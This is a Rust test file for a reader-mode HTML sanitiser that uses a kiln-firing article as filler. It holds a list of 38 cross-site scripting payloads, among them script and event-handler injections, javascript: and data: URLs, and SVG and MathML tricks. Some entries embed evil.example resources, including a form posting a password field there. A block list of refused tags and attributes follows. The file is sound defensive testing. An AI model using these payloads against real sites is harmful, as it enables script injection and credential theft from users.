//! The article's markup: nothing in it runs, frames, submits, styles or leads anywhere but to the web.

use super::{LINK, read, read_at};

const FILLER: &str = "<p>The first firing is the one that people remember, since you load the shelves and close the lid and wait \
    for a day and a night without being able to look inside.</p>";

/// The markup of an article with `extra` among its paragraphs.
fn markup_of(extra: &str) -> String {
    let page =
        format!("<title>Kilns</title><body><article>{}{extra}{}</article></body>", FILLER.repeat(5), FILLER.repeat(5));
    read(&page).reader_html.expect("an article")
}

/// What no page may bring into somebody's reader, in the forms that sanitisers have fallen for.
const HOSTILE: [&str; 38] = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<p><img src=x onerror=alert(1)></p>",
    "<p><img src='javascript:alert(1)'></p>",
    "<p><img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'></p>",
    "<p><img srcset='javascript:alert(1) 1x' src='/a.png'></p>",
    "<p><a href='javascript:alert(1)'>a kiln that is opened too early</a></p>",
    "<p><a href=' &#1; javascript:alert(1)'>a kiln that is opened too early</a></p>",
    "<p><a href='jAvAsCrIpT:alert(1)'>a kiln that is opened too early</a></p>",
    "<p><a href='java\nscript:alert(1)'>a kiln that is opened too early</a></p>",
    "<p><a href='java&#x09;script:alert(1)'>a kiln that is opened too early</a></p>",
    "<p><a href='data:text/html,<script>alert(1)</script>'>a kiln that is opened too early</a></p>",
    "<p><a href='vbscript:msgbox(1)'>a kiln that is opened too early</a></p>",
    "<p><a href='blob:https://example.org/1'>a kiln that is opened too early</a></p>",
    "<p><a href='file:///etc/passwd'>a kiln that is opened too early</a></p>",
    "<p style='background:url(javascript:alert(1))'>words in a paragraph of their own</p>",
    "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example/x.swf'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<form action='https://evil.example/'><input name=password type=password><button>Go</button></form>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>words</p></noscript>",
    "<template><script>alert(1)</script></template>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<p onclick=alert(1) onmouseover=alert(2) id=root class=x data-x=y>words in a paragraph of their own</p>",
    "<details ontoggle=alert(1) open><summary>words</summary>more of them</details>",
    "<video src='https://evil.example/v' onerror=alert(1) autoplay></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<p><img alt='--><script>alert(1)</script>' src='/a.png'></p>",
    "<!--><script>alert(1)</script>--><textarea><script>alert(1)</script></textarea>",
];

#[test]
fn nothing_hostile_comes_through() {
    let refused = [
        "<script",
        "javascript:",
        "vbscript:",
        "data:",
        "blob:",
        "file:",
        "<iframe",
        "<object",
        "<embed",
        "<form",
        "<input",
        "<button",
        "<style",
        "<link",
        "<meta",
        "<base",
        "<svg",
        "<math",
        "<template",
        "<noscript",
        "<video",
        "<audio",
        "<textarea",
        " style=",
        " class=",
        " id=",
        " srcset=",
        " onerror=",
        " onclick=",
        " onload=",
        " ontoggle=",
        " onbegin=",
        " onmouseover=",
    ];
    for hostile in HOSTILE {
        let html = markup_of(hostile);
        assert!(html.contains("The first firing"), "{hostile}: {html}");
        // What is text, or the value of an attribute, can do nothing.
        let tags: Vec<_> = html.split('<').skip(1).map(|rest| format!("<{}>", without_values(rest))).collect();
        let tags = tags.concat();
        let lower = html.to_lowercase();
        for word in refused {
            let wrong = if word.ends_with(':') {
                lower.contains(&format!("=\"{word}"))
            } else {
                tags.to_lowercase().contains(word)
            };
            assert!(!wrong, "{word} in {hostile}: {html}");
        }
    }
}

/// A tag up to its end, without what stands in quotes but for the quotes.
fn without_values(tag: &str) -> String {
    let mut quoted = false;
    let mut out = String::new();
    for c in tag.chars() {
        match c {
            '"' => quoted = !quoted,
            '>' if !quoted => break,
            _ if quoted => {}
            c => out.push(c),
        }
    }
    out
}

#[test]
fn links_and_images_are_absolute_and_tell_nobody_who_reads() {
    let html = markup_of(
        "<p>See <a href='../tables/cones' onclick=x target=_blank>the table of cones</a> or <a href='mailto:a@example.org'>write</a>, \
         and look at <img src='/k.png' width=300 height=200 alt='A kiln'>.</p>",
    );
    assert!(
        html.contains(
            "<a href=\"https://www.example.org/tables/cones\" rel=\"noopener nofollow\">the table of cones</a>"
        ),
        "{html}"
    );
    assert!(html.contains("href=\"mailto:a@example.org\""), "{html}");
    for part in [
        "src=\"https://www.example.org/k.png\"",
        "alt=\"A kiln\"",
        "loading=\"lazy\"",
        "referrerpolicy=\"no-referrer\"",
    ] {
        assert!(html.contains(part), "{part}: {html}");
    }
}

#[test]
fn headings_lists_tables_and_code_stay_what_they_are() {
    let html = markup_of(
        "<h2>Cones</h2><p>There are many of them, and the ones in the middle of the range are used most.</p><ul><li>one below the \
         goal, so that you are warned</li><li>one at the goal, so that you know</li></ul><pre><code class=rust>let cone = 6;\n  fire(cone);</code></pre>\
         <table><thead><tr><th>Cone</th><th>Degrees</th></tr></thead><tbody><tr><td>six</td><td colspan=2>1222</td></tr><tr><td>ten</td><td>1285</td></tr></tbody></table>",
    );
    for part in [
        "<h2>Cones</h2>",
        "<li>",
        "<pre><code>let cone = 6;\n  fire(cone);</code></pre>",
        "<table>",
        "<th>Cone</th>",
        "1285",
    ] {
        assert!(html.contains(part), "{part}: {html}");
    }
}

#[test]
fn a_text_that_is_no_page_has_no_markup() {
    let small = read("<title>Hours</title><body><div onclick=x()>Open from nine to five.</div></body>");
    assert_eq!(small.reader_html.as_deref(), Some("<p>Open from nine to five.</p>"));
    assert_eq!(read_at(LINK, "words", Some("text/plain")).unwrap().reader_html, None);
}
